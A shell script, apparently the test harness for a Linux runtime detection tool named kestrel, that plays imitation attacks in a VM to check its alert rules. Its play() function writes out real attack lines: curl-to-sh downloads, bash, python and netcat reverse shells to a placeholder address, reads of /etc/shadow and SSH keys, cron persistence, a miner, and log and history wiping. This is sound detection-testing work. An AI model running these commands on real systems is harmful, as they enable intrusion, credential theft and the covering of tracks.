#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# attack.sh - runs inside the demonstration's VM: starts kestrel, plays harmless imitations of attacks
# among ordinary activity, and checks that each of them raised its alert.
#
# usage: attack.sh RULES ACTOR COLOUR(always|never)
#
# Out:  what is played and the alerts as they come; kestrel's summary.
# Exit: 0 every attack was seen, ordinary activity raised nothing, nothing was dropped; else 1.
set -u

rules=$1
actor=$2
colour=$3

ready=/run/kestrel.ready
alerts=/run/kestrel.alerts
messages=/run/kestrel.messages
MIN_DIFFERENT=8 # rules that must have alerted

bold='' dim='' red='' green='' plain=''
if [ "$colour" = always ]; then
	bold=$(printf '\033[1m') dim=$(printf '\033[2m') red=$(printf '\033[31m')
	green=$(printf '\033[32m') plain=$(printf '\033[0m')
fi

problems=0
problem() {
	printf '%s!! %s%s\n' "$red" "$1" "$plain"
	problems=$((problems + 1))
}

# Asks ten times a second whether a condition holds, for SECONDS at most.
wait_for() { # SECONDS COMMAND...
	tries=$(($1 * 10))
	shift
	until "$@"; do
		tries=$((tries - 1))
		[ "$tries" -gt 0 ] || return 1
		usleep 100000
	done
}

has_alert() { # RULE NAME
	grep -qF -- "$1" "$alerts"
}

is_ready_or_gone() {
	[ -s "$ready" ] || is_gone "$pipeline"
}

is_gone() { # PID
	! kill -0 "$1" 2>/dev/null
}

# The programs and files that the scenes need; before anything is watched.
set_the_stage() {
	for name in curl python3 nc xmrig; do
		rm -f "/usr/bin/$name" && cp "$actor" "/usr/bin/$name"
	done
	mkdir -p /etc/cron.d /root/.ssh /var/log /srv/shop
	echo 'not a key' >/root/.ssh/id_ed25519
	echo 'ls' >/root/.bash_history
	: >/var/log/wtmp
	: >"$alerts"
	i=0
	while [ $i -lt 20 ]; do
		echo "order $i" >"/srv/shop/order-$i.txt"
		i=$((i + 1))
	done
}

start_kestrel() {
	kestrel run --rules "$rules" --output compact --color "$colour" --summary \
		--ready-file "$ready" 2>"$messages" | tee -a "$alerts" &
	pipeline=$!
	wait_for 120 is_ready_or_gone
	if [ ! -s "$ready" ]; then
		cat "$messages"
		echo "kestrel did not start"
		exit 1
	fi
	kestrel=$(cat "$ready")
}

# What machines do all day.
ordinary_activity() { # ROUNDS
	round=0
	while [ $round -lt "$1" ]; do
		ls -l /srv/shop /usr/bin /etc >/dev/null
		cat /srv/shop/order-*.txt >/dev/null
		grep -r order /srv/shop >/dev/null
		find /usr /etc -name '*.conf' >/dev/null
		bash -c 'for f in /srv/shop/*; do head -n 1 "$f"; done | sort | wc -l' >/dev/null
		cp /srv/shop/order-1.txt /tmp/copy.txt
		rm -f /tmp/copy.txt
		round=$((round + 1))
	done
}

# Plays one scene and waits for its alert.
attack() { # TITLE RULE-NAME COMMAND...
	title=$1 rule=$2
	shift 2
	printf '%s-- %s%s\n' "$dim" "$title" "$plain"
	"$@" >/dev/null 2>&1
	wait_for 10 has_alert "$rule" || problem "no alert of the rule: $rule"
	ordinary_activity 1
}

# Each line is harmless: nothing connects (203.0.113.7 belongs to nobody), nothing stays.
play() {
	attack 'a shell is copied to /tmp and started' \
		'Shell started from a world-writable directory' \
		sh -c 'cp /usr/bin/bash /tmp/bash && /tmp/bash -c true'
	attack 'the copy gets the setuid bit, two shells deep' 'Setuid bit set by hand' \
		bash -c 'bash -c "chmod u+s /tmp/bash"; :'
	attack 'a script hides in base64' 'Decoded text piped into a shell' \
		bash -c 'echo OiBub3RoaW5nCg== | base64 -d | sh'
	attack 'a script is fetched and run at once' 'Download piped into a shell' \
		bash -c 'curl -s http://203.0.113.7/install | sh'
	attack 'a reverse shell of bash (it never connects)' 'Reverse shell through /dev/tcp' \
		bash -c 'false && exec bash -i >& /dev/tcp/203.0.113.7/443 0>&1'
	attack 'a reverse shell of python (a stand-in)' 'Reverse shell by an interpreter' \
		python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",443));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
	attack 'a reverse shell of netcat (a stand-in)' 'Netcat that runs a program' \
		nc 203.0.113.7 443 -e /bin/sh
	attack 'an interpreter reads the password hashes' \
		'Password hashes read by a general-purpose program' \
		python3 -c 'print(open("/etc/shadow").read())'
	attack 'somebody prints a private SSH key' \
		'Private SSH key read by another program than SSH' cat /root/.ssh/id_ed25519
	attack 'a hidden program starts from /dev/shm' \
		'Hidden program in a world-writable directory' \
		sh -c 'cp "$0" /dev/shm/.update && /dev/shm/.update' "$actor"
	attack 'a program poses as a kernel thread' 'Program that poses as a kernel thread' \
		bash -c 'exec -a "[kworker/0:1]" "$0"' "$actor"
	attack 'a job is left for cron' 'Cron entry touched by a shell or download tool' \
		bash -c 'echo "@reboot root /dev/shm/.update" >/etc/cron.d/update'
	attack 'setuid programs are searched' 'Search for setuid programs' \
		find /usr/bin -perm -4000
	attack 'a miner starts (a stand-in)' 'Cryptocurrency miner' \
		xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1
	attack 'the log of logins goes away' 'System log removed or emptied' \
		rm -f /var/log/wtmp
	attack 'and so does the history of the shell' 'Shell history cleared or disabled' \
		bash -c 'unset HISTFILE; rm -f /root/.bash_history'
}

stop_kestrel() {
	kill -INT "$kestrel"
	wait_for 30 is_gone "$kestrel" || problem "kestrel did not stop"
	wait "$pipeline"
}

# The rows of the summary's table by rule whose last column, the alerts, is not 0.
different_rules() {
	awk 'in_table && NF == 6 && $6 > 0 { n++ } $1 == "rule" { in_table = 1 } END { print n + 0 }' \
		"$messages"
}

conclude() {
	different=$(different_rules)
	dropped=$(sed -n 's/.*events seen:.*dropped: \([0-9]*\).*/\1/p' "$messages")
	printf '\n%sSummary%s\n' "$bold" "$plain"
	sed -n '/stopping:/,$p' "$messages"
	[ "$different" -ge "$MIN_DIFFERENT" ] || problem "only $different different rules alerted"
	[ "$dropped" = 0 ] || problem "events were dropped: ${dropped:-no summary}"
	if [ "$problems" -gt 0 ]; then
		printf '\n%sdemo failed: %s problem(s)%s\n' "$red" "$problems" "$plain"
		exit 1
	fi
	printf '\n%sdemo ok: %s different rules alerted, nothing was dropped%s\n' "$green" \
		"$different" "$plain"
}

printf '%sKestrel on Linux %s%s\n' "$bold" "$(uname -r)" "$plain"
set_the_stage
start_kestrel
grep -E 'rules loaded|eBPF|ringbuf' "$messages"
printf '%s-- ordinary activity first%s\n' "$dim" "$plain"
ordinary_activity 5
[ ! -s "$alerts" ] || problem "ordinary activity raised an alert"
play
stop_kestrel
conclude
